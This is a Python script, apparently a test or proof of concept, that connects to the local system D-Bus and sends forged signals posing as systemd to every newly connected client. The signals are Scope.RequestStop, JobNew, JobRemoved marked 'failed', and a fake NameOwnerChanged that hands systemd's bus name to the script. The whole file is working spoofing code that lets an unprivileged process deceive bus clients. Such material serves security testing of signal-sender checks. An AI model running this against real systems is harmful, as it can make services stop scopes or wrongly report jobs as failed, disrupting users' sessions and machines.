#!/usr/bin/env python3
# SPDX-License-Identifier: LGPL-2.1-or-later
"""Sends signals that pose as systemd's to every new connection of the system bus.

forged_signals.py request-stop UNIT...   Scope.RequestStop of these units, every 2 ms for a second
forged_signals.py job-new UNIT...        Manager.JobNew of these units, likewise
forged_signals.py job-removed            Manager.JobRemoved with "failed" for each new job of a scope
forged_signals.py owner-changed          NameOwnerChanged that gives systemd's name to us, then JobRemoved as above

A signal with a destination is delivered whatever its receiver has matched.
"""
import os
import select
import socket
import struct
import sys
import time

DRIVER = "org.freedesktop.DBus"
SYSTEMD, SYSTEMD_PATH = "org.freedesktop.systemd1", "/org/freedesktop/systemd1"
MANAGER = SYSTEMD + ".Manager"


def aligned(data, size):
    return data + b"\0" * (-len(data) % size)


def text(value):
    encoded = value.encode()
    return struct.pack("<I", len(encoded)) + encoded + b"\0"


class Bus:
    def __init__(self):
        self.socket = socket.socket(socket.AF_UNIX)
        self.socket.connect("/run/dbus/system_bus_socket")
        self.socket.sendall(b"\0AUTH EXTERNAL " + str(os.getuid()).encode().hex().encode() + b"\r\n")
        self.socket.recv(1000)
        self.socket.sendall(b"BEGIN\r\n")
        self.serial, self.received = 0, b""
        self.send(1, DRIVER, "/org/freedesktop/DBus", DRIVER, "Hello")

    def send(self, kind, destination, path, interface, member, signature="", values=()):
        self.serial += 1
        body = b""
        for code, value in zip(signature, values):
            body = aligned(body, 4) + (struct.pack("<I", value) if code == "u" else text(value))
        fields = [(1, "o", path), (2, "s", interface), (3, "s", member), (6, "s", destination)]
        if signature:
            fields.append((8, "g", signature))
        header = b""
        for number, code, value in fields:
            header = aligned(header, 8) + bytes([number, 1]) + code.encode() + b"\0"
            if code == "g":
                header += bytes([len(value)]) + value.encode() + b"\0"
            else:
                header = aligned(header, 4) + text(value)
        start = struct.pack("<BBBBIII", ord("l"), kind, 1 if kind == 4 else 0, 1, len(body), self.serial, len(header))
        self.socket.sendall(aligned(start + header, 8) + body)

    def signal(self, destination, path, interface, member, signature="", values=()):
        self.send(4, destination, path, interface, member, signature, values)

    def match(self, rule):
        self.send(1, DRIVER, "/org/freedesktop/DBus", DRIVER, "AddMatch", "s", [rule])

    def receive(self):
        """The next message, and its body."""
        while True:
            if len(self.received) >= 16:
                body, _, fields = struct.unpack("<III", self.received[4:16])
                size = 16 + fields + -fields % 8 + body
                if len(self.received) >= size:
                    message, self.received = self.received[:size], self.received[size:]
                    return message, message[size - body:]
            data = self.socket.recv(65536)
            if not data:
                sys.exit("the bus is closed")
            self.received += data


def texts(body, start, count):
    out = []
    for _ in range(count):
        start += -start % 4
        size = struct.unpack("<I", body[start:start + 4])[0]
        out.append(body[start + 4:start + 4 + size].decode())
        start += 4 + size + 1
    return out


def unit_path(unit):
    return SYSTEMD_PATH + "/unit/" + "".join(c if c.isalnum() else "_%02x" % ord(c) for c in unit)


def new_name(message, body):
    """The unique name of a connection that was just made, or None."""
    if b"NameOwnerChanged" not in message:
        return None
    name, old, new = texts(body, 0, 3)
    return name if name.startswith(":") and new and not old else None


def volley(bus, what, units):
    targets = {}
    while True:
        while targets:
            targets = {name: until for name, until in targets.items() if time.monotonic() < until}
            for name in targets:
                for unit in units:
                    if what == "request-stop":
                        bus.signal(name, unit_path(unit), SYSTEMD + ".Scope", "RequestStop")
                    else:
                        bus.signal(name, SYSTEMD_PATH, MANAGER, "JobNew", "uos", [7, SYSTEMD_PATH + "/job/7", unit])
            if select.select([bus.socket], [], [], 0.002)[0]:
                break
        name = new_name(*bus.receive())
        if name:
            print("sent to", name, flush=True)
            targets[name] = time.monotonic() + 1


def answer_jobs(bus, own_name):
    bus.match(f"type='signal',sender='{SYSTEMD}',member='JobNew'")
    bus.send(1, SYSTEMD, SYSTEMD_PATH, MANAGER, "Subscribe")
    recent = []
    while True:
        message, body = bus.receive()
        name = new_name(message, body)
        if name:
            recent = recent[-2:] + [name]
            if own_name:
                bus.signal(name, "/org/freedesktop/DBus", DRIVER, "NameOwnerChanged", "sss", [SYSTEMD, "", own_name])
        elif b"JobNew" in message and b".scope" in body:
            number = struct.unpack("<I", body[:4])[0]
            job, unit = texts(body, 4, 2)
            for name in recent * 3:
                bus.signal(name, SYSTEMD_PATH, MANAGER, "JobRemoved", "uoss", [number, job, unit, "failed"])
            print("sent for", job, flush=True)


def main():
    bus = Bus()
    _, body = bus.receive()
    own_name = texts(body, 0, 1)[0]
    bus.match(f"type='signal',sender='{DRIVER}',member='NameOwnerChanged'")
    print("listening", flush=True)
    what, units = sys.argv[1], sys.argv[2:]
    if what in ("request-stop", "job-new"):
        volley(bus, what, units)
    else:
        answer_jobs(bus, own_name if what == "owner-changed" else None)


main()
